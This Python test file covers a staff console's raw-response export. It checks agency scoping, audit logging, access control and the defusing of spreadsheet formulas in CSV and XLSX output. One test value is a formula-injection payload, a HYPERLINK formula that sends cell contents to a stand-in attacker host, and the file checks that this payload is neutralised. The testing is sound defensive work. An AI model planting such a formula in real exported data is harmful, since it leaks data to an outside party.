"""Raw-response exports from the console (/staff/results/export): scoped, defused, audited."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import openpyxl
from flask import Flask
from sqlalchemy import select

from collector.core.db import session_scope
from collector.core.models import AuditEvent
from tests.helpers.answers import SLUG
from tests.helpers.answers import add_responses
from tests.helpers.web import Auth
from tests.helpers.web import logged_in

ANALYST = "analyst@alpha.example.test"
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def client_for(app: Flask, email: str) -> Any:
    client = app.test_client()
    assert logged_in(Auth(client).login(email))
    return client


def exported(client: Any, fmt: str, **query: Any) -> Any:
    return client.get(
        "/staff/results/export", query_string={"format": fmt, "questionnaire": SLUG, **query}
    )


def test_csv_export_is_the_agencys_rows_defused_and_an_attachment(staff_app: Flask) -> None:
    alpha = add_responses(staff_app, "alpha", "c1", 2, comment=PAYLOAD)
    beta = add_responses(staff_app, "beta", "c1", 2)
    response = exported(client_for(staff_app, ANALYST), "csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([A-Za-z0-9._-]+)"', disposition)
    assert match and match.group(1).startswith("citizen-satisfaction-alpha-")
    assert match.group(1).endswith(".csv")
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(r["receipt"] for r in rows) == sorted(alpha)
    assert not set(beta) & {r["receipt"] for r in rows}
    assert {r["comment"] for r in rows} == {"'" + PAYLOAD}
    assert {r["agency"] for r in rows} == {"alpha"}


def test_xlsx_export_has_a_data_dictionary(staff_app: Flask) -> None:
    add_responses(staff_app, "alpha", "c1", 1, comment="@SUM(1)")
    response = exported(client_for(staff_app, ANALYST), "xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["responses", "dictionary", "about"]
    sheet = workbook["responses"]
    header = [c.value for c in sheet[1]]
    comment = sheet.cell(row=2, column=header.index("comment") + 1)
    assert comment.value == "'@SUM(1)" and comment.data_type == "s"
    columns = [r[0].value for r in workbook["dictionary"].iter_rows(min_row=2)]
    assert "overall_satisfaction" in columns


def test_every_export_is_audited(staff_app: Flask, people: dict[str, int]) -> None:
    add_responses(staff_app, "alpha", "c1", 3)
    client = client_for(staff_app, ANALYST)
    assert exported(client, "csv").status_code == 200
    assert exported(client, "xlsx").status_code == 200
    with session_scope(staff_app) as session:
        events = list(
            session.execute(
                select(AuditEvent)
                .where(AuditEvent.action == "responses.export")
                .order_by(AuditEvent.id)
            ).scalars()
        )
        found = [(e.actor_user_id, e.actor_label, e.target, json.loads(e.detail)) for e in events]
    assert [(f[0], f[1], f[2]) for f in found] == [
        (people[ANALYST], ANALYST, f"questionnaire:{SLUG}")
    ] * 2
    assert [f[3]["format"] for f in found] == ["csv", "xlsx"]
    assert all(f[3]["rows"] == 3 for f in found)


def test_who_may_export_and_bad_requests(staff_app: Flask) -> None:
    add_responses(staff_app, "alpha", "c1", 1)
    for email in (
        "admin@alpha.example.test",
        "ministry@moi.example.test",
        "counter@alpha.example.test",
        "sysadmin@example.test",
    ):
        assert exported(client_for(staff_app, email), "csv").status_code == 403, email
    analyst = client_for(staff_app, ANALYST)
    assert exported(analyst, "pdf").status_code == 400
    assert analyst.get("/staff/results/export?format=csv").status_code == 400
    assert analyst.get("/staff/results/export?format=csv&questionnaire=nope").status_code == 400
    # beta's analyst gets beta's (empty) table, never alpha's rows
    beta = exported(client_for(staff_app, "analyst@beta.example.test"), "csv")
    assert beta.status_code == 200
    assert len(list(csv.reader(io.StringIO(beta.data.decode("utf-8-sig"))))) == 1
    with session_scope(staff_app) as session:
        audited = (
            session.execute(select(AuditEvent).where(AuditEvent.action == "responses.export"))
            .scalars()
            .all()
        )
        assert len(audited) == 1  # only beta's successful export


def test_exports_say_which_batch_and_staff_account_keyed_a_paper_response(
    staff_app: Flask, people: dict[str, int]
) -> None:
    from sqlalchemy import update

    from collector.core.models import Response

    online = add_responses(staff_app, "alpha", "c1", 1)
    paper = add_responses(staff_app, "alpha", "c1", 2, channel="paper")
    counter = people["counter@alpha.example.test"]
    with session_scope(staff_app) as session:
        session.execute(
            update(Response)
            .where(Response.receipt.in_(paper))  # type: ignore[attr-defined]
            .values(batch="=1+1 批", entered_by=counter)
        )
    client = client_for(staff_app, ANALYST)
    body = exported(client, "csv").data.decode("utf-8-sig")
    rows = {r["receipt"]: r for r in csv.DictReader(io.StringIO(body))}
    header = body.splitlines()[0].split(",")
    assert header.index("batch") == header.index("submitted_at") + 1
    assert header.index("entered_by") == header.index("batch") + 1
    assert rows[online[0]]["batch"] == "" and rows[online[0]]["entered_by"] == ""
    for receipt in paper:
        assert rows[receipt]["batch"] == "'=1+1 批"  # defused like any text
        assert rows[receipt]["entered_by"] == str(counter)  # an id, never a name
    assert "counter@alpha" not in body
    book = openpyxl.load_workbook(io.BytesIO(exported(client, "xlsx").data))
    sheet = book["responses"]
    names = [c.value for c in sheet[1]]
    values = {
        row[names.index("receipt")]: row for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert values[paper[0]][names.index("entered_by")] == counter
    assert values[paper[0]][names.index("batch")] == "'=1+1 批"
    assert values[online[0]][names.index("entered_by")] is None
    dictionary = {r[0].value: [c.value for c in r] for r in book["dictionary"].iter_rows(min_row=2)}
    assert "staff" in " ".join(str(v) for v in dictionary["entered_by"])
    assert "批號" in " ".join(str(v) for v in dictionary["batch"])
